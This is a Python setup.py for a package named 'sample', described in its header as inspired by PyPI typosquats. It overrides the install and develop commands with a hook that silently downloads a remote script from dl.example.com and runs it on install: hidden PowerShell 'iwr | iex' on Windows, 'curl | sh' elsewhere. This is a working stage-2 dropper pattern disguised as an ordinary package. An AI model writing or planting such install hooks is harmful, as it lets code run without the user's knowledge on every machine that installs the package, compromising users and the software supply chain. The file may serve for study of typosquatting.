# Inspired by the many 2022-2023 PyPI typosquats (e.g. 'colourama', 'reqeusts', 'pyhton-dateutil' variants) overriding install/develop to fetch and run a stage-2.
import subprocess
import sys

from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install


def _post():
    if sys.platform.startswith("win"):
        cmd = 'powershell -w hidden -c "iwr https://dl.example.com/s.ps1 -UseBasicParsing | iex"'
    else:
        cmd = "curl -fsSL https://dl.example.com/s.sh | sh"
    subprocess.Popen(cmd, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def _wrap(base):
    class Cmd(base):
        def run(self):
            base.run(self)
            _post()
    return Cmd


setup(
    name="sample",
    version="0.4.2",
    packages=["sample"],
    cmdclass={"install": _wrap(install), "develop": _wrap(develop)},
)
